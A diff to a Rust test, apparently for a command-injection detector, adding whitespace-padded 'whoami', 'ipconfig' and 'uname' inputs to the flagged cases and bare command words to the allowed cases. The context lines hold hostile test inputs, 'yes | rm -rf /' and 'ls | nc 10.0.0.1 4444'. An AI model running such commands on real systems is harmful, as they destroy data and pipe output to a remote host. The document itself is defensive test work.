@@ -309,6 +309,10 @@ fn a_lone_ampersand_pairs_names_unless_a_command_follows_it() {
             "yes | rm -rf /",
             "ls | nc 10.0.0.1 4444",
             "whoami | tee",
+            " whoami",
+            " ipconfig ",
+            "\tuname",
+            " IPCONFIG",
         ],
         &[
             "Tom & Jerry",
@@ -331,6 +335,9 @@ fn a_lone_ampersand_pairs_names_unless_a_command_follows_it() {
             "Copy & Paste",
             "Yes | No",
             "Find | Replace",
+            "whoami",
+            "uname",
+            " whoami is a command",
         ],
     );
 }
